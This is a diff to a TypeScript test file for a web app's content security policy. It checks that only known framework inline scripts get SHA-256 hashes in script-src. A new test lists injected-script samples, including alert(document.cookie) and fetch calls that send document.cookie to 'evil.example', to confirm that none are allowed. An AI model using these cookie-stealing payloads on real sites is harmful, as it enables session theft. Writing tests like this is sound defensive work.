@@ -18,21 +18,37 @@ describe("content security policy", () => {
     expect(csp).not.toContain("upgrade-insecure-requests");
   });
 
-  it("allows a cached page's inline scripts by their hashes, never by 'unsafe-inline' or a shared nonce", () => {
-    const html = `<html><head><script src="/_next/static/a.js" async=""></script><script>self.__next_f.push([1,"x"])</script></head>
-      <body><script>self.__next_f.push([1,"x"])</script><script type="text/javascript">alert(1)</script></body></html>`;
-    const hashes = inlineScriptHashes(html);
-    // Two distinct inline scripts (one repeated), the external one skipped; hashes are SHA-256 of the exact text.
-    expect(hashes).toEqual([
-      createHash("sha256").update('self.__next_f.push([1,"x"])').digest("base64"),
-      createHash("sha256").update("alert(1)").digest("base64"),
-    ]);
+  it("allows a cached page's framework scripts by their hashes, never by 'unsafe-inline' or a shared nonce", () => {
+    const turbopack = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/30getrsh8qyka.js"],"runtimeModuleIds":[494553]});';
+    const boot = "(self.__next_f=self.__next_f||[]).push([0])";
+    const chunk = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
+    const html = `<html><head><script src="/_next/static/a.js" async=""></script><script id="_R_">${turbopack}</script><script>${boot}</script></head>
+      <body><script>${chunk}</script><script>${chunk}</script><script type="application/ld+json">{"@type":"Report"}</script></body></html>`;
+    const { hashes, unknown } = inlineScriptHashes(html);
+    // Three distinct framework scripts (one repeated), the external one and the data block skipped; SHA-256 of the exact text.
+    const sha = (text: string) => createHash("sha256").update(text).digest("base64");
+    expect(hashes).toEqual([sha(turbopack), sha(boot), sha(chunk)]);
+    expect(unknown).toBe(0);
     const csp = contentSecurityPolicy({ scripts: { hashes }, dev: false, https: true, tileOrigin: null });
     const scriptSrc = csp.split("; ").find((d) => d.startsWith("script-src "))!;
-    expect(scriptSrc).toBe(`script-src 'self' 'sha256-${hashes[0]}' 'sha256-${hashes[1]}'`);
+    expect(scriptSrc).toBe(`script-src 'self' ${hashes.map((h) => `'sha256-${h}'`).join(" ")}`);
     expect(csp).not.toMatch(/unsafe-inline'[^;]*;[^;]*script|nonce/);
     expect(csp).toContain("upgrade-insecure-requests");
     expect(contentSecurityPolicy({ scripts: { hashes: [] }, dev: false, https: false, tileOrigin: null })).toContain("script-src 'self';");
+  });
+
+  it("never hashes in a script injected into the page, whatever it looks like (fails before: every inline script was allowed)", () => {
+    const injected = [
+      "alert(document.cookie)",
+      'self.__next_f.push([1,"x"]);fetch("//evil.example/"+document.cookie)',
+      '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["//evil.example/x.js"],"runtimeModuleIds":[1]});',
+    ];
+    for (const text of injected) {
+      const { hashes, unknown } = inlineScriptHashes(`<p>hi</p><script>${text}</script><script type="text/javascript">${text}</script>`);
+      expect([text, hashes]).toEqual([text, []]);
+      expect(unknown).toBe(2);
+    }
   });
 
   it("gives every page request a fresh nonce, and HSTS only over HTTPS", () => {
